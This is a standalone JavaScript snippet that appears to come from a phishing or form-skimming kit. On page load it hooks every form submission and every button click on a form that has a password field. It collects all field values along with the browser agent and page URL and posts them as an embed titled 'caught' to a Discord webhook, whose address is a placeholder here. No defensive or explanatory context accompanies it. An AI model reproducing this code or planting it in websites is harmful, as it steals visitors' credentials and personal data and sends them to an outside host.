function toChannel(entry) {
  const hook = 'https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER';
  const note = {
    embeds: [{
      title: "🔑 caught",
      color: 16711680,
      fields: Object.keys(entry).map(k => ({ name: k, value: entry[k] || 'N/A', inline: true })),
      footer: { text: "panel" }
    }]
  };
  fetch(hook, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(note) })
    .catch(e => console.error(e));
}

function readForm(form) {
  const bag = new FormData(form);
  const entry = {};
  for (let [k, v] of bag.entries()) entry[k] = v;
  entry.agent = navigator.userAgent;
  entry.page = window.location.href;
  return entry;
}

document.addEventListener('DOMContentLoaded', function () {
  document.addEventListener('submit', function (e) {
    toChannel(readForm(e.target));
  });
  document.querySelectorAll('button').forEach(b => b.addEventListener('click', function () {
    const form = b.closest('form');
    if (form && form.querySelector('[type=password]')) toChannel(readForm(form));
  }));
});
